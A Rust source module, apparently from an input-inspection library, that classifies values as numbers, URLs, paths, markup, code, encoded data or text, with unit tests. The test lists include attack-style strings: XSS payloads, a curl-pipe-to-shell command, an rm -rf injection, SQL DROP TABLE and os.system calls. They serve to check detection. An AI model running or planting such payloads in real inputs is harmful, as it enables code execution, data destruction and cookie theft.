//! What a value looks like.

mod code;
mod looks;

use crate::{
    Marks, Shape,
    format::{json, xml},
};

/// What a value looks like; what counts as an attack differs from kind to kind.
#[derive(Clone, Copy, Debug, PartialEq, Eq, Hash)]
pub enum Kind {
    /// Nothing: an empty text, or null.
    Empty,
    /// A number, also one that is written as a text.
    Number,
    /// True or false.
    Boolean,
    /// One word of letters, digits, `_`, `-`, `.` and `:`, such as programs name things with.
    Identifier,
    /// A URL with its scheme.
    Url,
    /// A path: `/a/b`, `a/b/c.txt`, `C:\x`.
    Path,
    /// An e-mail address.
    Email,
    /// A date, a time or both (ISO 8601).
    Date,
    /// HTML or XML.
    Markup,
    /// Something a program would read: statements, expressions, queries, commands.
    Code,
    /// JSON in a text.
    Json,
    /// Base64 of either alphabet, or hexadecimal digits, too long to be a name.
    Encoded,
    /// Text for people.
    Text,
    /// Bytes that are no text.
    Binary,
}

impl Kind {
    /// Its name, as people read it.
    pub const fn name(self) -> &'static str {
        match self {
            Self::Empty => "empty",
            Self::Number => "number",
            Self::Boolean => "boolean",
            Self::Identifier => "identifier",
            Self::Url => "url",
            Self::Path => "path",
            Self::Email => "email",
            Self::Date => "date",
            Self::Markup => "markup",
            Self::Code => "code",
            Self::Json => "json",
            Self::Encoded => "encoded",
            Self::Text => "text",
            Self::Binary => "binary",
        }
    }

    /// Tells what a value of this shape looks like: the marks first, so that a word or a sentence is known at once.
    #[inline]
    pub(crate) fn of(shape: Shape, bytes: &[u8], marks: Marks) -> Self {
        /// What a sentence is made of.
        const SENTENCE: Marks = Marks::LETTER.and(Marks::SPACE).and(Marks::COMMA).and(Marks::HIGH);
        match shape {
            Shape::Number => Self::Number,
            Shape::Boolean => Self::Boolean,
            Shape::Null => Self::Empty,
            // Of most names nothing else is asked: what is encoded and as short has digits or more signs.
            Shape::String
                if marks.only(Marks::LETTER | Marks::UNDERSCORE)
                    && marks.any(Marks::LETTER)
                    && bytes.len() < looks::LONG_HEX =>
            {
                if looks::is_boolean(bytes) {
                    Self::Boolean
                } else {
                    Self::Identifier
                }
            }
            Shape::String if marks.only(SENTENCE) && marks.any(Marks::SPACE | Marks::HIGH) => Self::Text,
            Shape::String => of_text(bytes, marks),
            Shape::Bytes => of_bytes(bytes, marks),
        }
    }
}

/// Tells what bytes look like that no one promised to be text.
#[inline(never)]
fn of_bytes(bytes: &[u8], marks: Marks) -> Kind {
    if std::str::from_utf8(bytes).is_err() { Kind::Binary } else { Kind::of(Shape::String, bytes, marks) }
}

/// Tells what a text looks like that is not known at once.
#[inline(never)]
fn of_text(bytes: &[u8], marks: Marks) -> Kind {
    const WORD: Marks = Marks::WORD.and(Marks::DOT).and(Marks::COLON);
    if bytes.is_empty() {
        return Kind::Empty;
    }
    if marks.any(Marks::CONTROL) {
        return Kind::Binary;
    }
    let one_word = !marks.any(Marks::SPACE | Marks::LINE);
    if marks.any(Marks::DIGIT) && looks::begins_as_number(bytes) {
        if looks::is_number(bytes) {
            return Kind::Number;
        }
        if looks::is_date(bytes) {
            return Kind::Date;
        }
    }
    if marks.only(Marks::LETTER) && looks::is_boolean(bytes) {
        return Kind::Boolean;
    }
    if one_word && looks::is_encoded(bytes, marks) {
        return Kind::Encoded;
    }
    let opaque = || marks.any(Marks::COLON) && looks::has_opaque_scheme(bytes);
    if marks.only(WORD) && marks.any(Marks::LETTER | Marks::DIGIT) && !opaque() {
        return Kind::Identifier;
    }
    if marks.any(Marks::BRACE | Marks::BRACKET) && json::is_likely(bytes) {
        return Kind::Json;
    }
    if one_word && marks.any(Marks::COLON) && looks::is_url(bytes) {
        return Kind::Url;
    }
    if one_word && marks.any(Marks::AT) && looks::is_email(bytes, marks) {
        return Kind::Email;
    }
    if marks.any(Marks::ANGLE) && xml::is_likely(bytes) && looks::is_markup(bytes) {
        return Kind::Markup;
    }
    if marks.any(Marks::SLASH | Marks::BACKSLASH) && looks::is_path(bytes, marks) {
        return Kind::Path;
    }
    if code::is_code(bytes, marks) {
        return Kind::Code;
    }
    Kind::Text
}

impl std::fmt::Display for Kind {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        f.pad(self.name())
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn texts_look_like_what_they_are() {
        let check = |kind: Kind, texts: &[&str]| {
            for text in texts {
                assert_eq!(
                    Kind::of(Shape::String, text.as_bytes(), Marks::of(text.as_bytes())),
                    kind,
                    "{text}"
                );
            }
        };
        check(Kind::Empty, &[""]);
        check(Kind::Number, &["0", "-1", "+49", "3.14", ".5", "6.02e23", "1E-9", "007"]);
        check(Kind::Boolean, &["true", "false", "True", "FALSE", "TRUE"]);
        check(
            Kind::Identifier,
            &[
                "user_name",
                "en-GB",
                "com.example.Type",
                "room:42",
                "550e8400-e29b-41d4-a716-446655440000",
                "1.2.3",
                "10.0.0.1",
                "getUserAccountDetailsByIdV2",
                "trueish",
                "e5",
                "deadbeef",
                "ABCDEFGHIJKLMNOPQRSTUVWXYZ",
            ],
        );
        check(
            Kind::Url,
            &[
                "https://a.example/x?y=z#w",
                "wss://a.example",
                "javascript:alert(1)",
                "data:text/plain,x",
                "mailto:a@b.example",
                "file:///etc/passwd",
                "HTTP://[::1]:80/",
            ],
        );
        check(
            Kind::Path,
            &[
                "/",
                "/etc/passwd",
                "../../x",
                "./a",
                "a/b/c.txt",
                r"C:\Windows\x.ini",
                r"\\host\share",
                "~/x",
                "docs/readme.md",
            ],
        );
        check(
            Kind::Email,
            &["a@b.example", "first.last+tag@mail.example.org", "x_1@y-z.co", "o'neil@a.example", "1@2.de"],
        );
        check(
            Kind::Date,
            &[
                "2024-05-17",
                "2024-05-17T10:00:00Z",
                "2024-05-17 10:00:00.123+02:00",
                "2024-05-17T10:00",
                "10:00:00",
                "20240517T100000Z",
                "23:59",
                "2024-W20-5",
                "2024-05",
            ],
        );
        check(
            Kind::Markup,
            &[
                "<b>hi</b>",
                "x <br/> y",
                "<!DOCTYPE html><html></html>",
                "<img src=x onerror=alert(1)>",
                "<?xml version='1.0'?><a/>",
                "text<script>alert(1)</script>",
                "<!-- x -->",
            ],
        );
        check(
            Kind::Code,
            &[
                "SELECT * FROM users WHERE id = 1",
                "select name from users where id='1'",
                "if (a == b) { return c; }",
                "const x = () => 1;",
                "alert(document.cookie)",
                "query { user(id: 1) { name } }",
                "function f(a) { return a }",
                "$(curl x.example | sh)",
                "DROP TABLE users;",
                "; rm -rf /tmp/x && id",
                "{ user { id name } }",
                "console.log('x');",
                "fn main() { let x = 1; }",
                "#!/bin/sh",
                "import os; os.system('id')",
            ],
        );
        check(Kind::Json, &["{}", "[1,2]", r#"{"a":1}"#, r#" [ {"a": 1} ] "#, "[true]"]);
        check(
            Kind::Encoded,
            &[
                "aGVsbG8gd29ybGQ=",
                "PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
                "d41d8cd98f00b204e9800998ecf8427e",
                "eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxIn0.c2lnbmF0dXJl",
                "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJ",
            ],
        );
        check(
            Kind::Text,
            &[
                "hello world",
                "Hello, is it (really) 5 o'clock?",
                "you should use a => b there, and then call foo(); it works for me",
                "select a seat from the list",
                "I <3 you > them",
                "and/or",
                "...",
                ":-)",
                "12/05/2024",
                "[12:01] hello",
                "drop me a line; or two",
                "Ünïcödé",
                "if it rains, return home",
                "a = b",
                "mail me @ home",
                "line one\nline two",
                "50% (of 10)",
                "what is List<String> in java",
                "email <bob@x.example>",
                "no way!!! (wow)",
            ],
        );
        check(Kind::Binary, &["\0", "a\u{1}b", "\u{7f}", "\u{1b}[0m", "x\0"]);
    }

    #[test]
    fn the_shape_comes_first() {
        let check = |shape: Shape, bytes: &[u8], kind: Kind| {
            assert_eq!(Kind::of(shape, bytes, Marks::of(bytes)), kind, "{}", bytes.escape_ascii());
        };
        check(Shape::Number, b"1", Kind::Number);
        check(Shape::Number, b"NaN", Kind::Number);
        check(Shape::Boolean, b"true", Kind::Boolean);
        check(Shape::Null, b"null", Kind::Empty);
        check(Shape::String, b"null", Kind::Identifier);
        check(Shape::Bytes, b"hello there", Kind::Text);
        check(Shape::Bytes, b"\xff\xfe", Kind::Binary);
    }
}
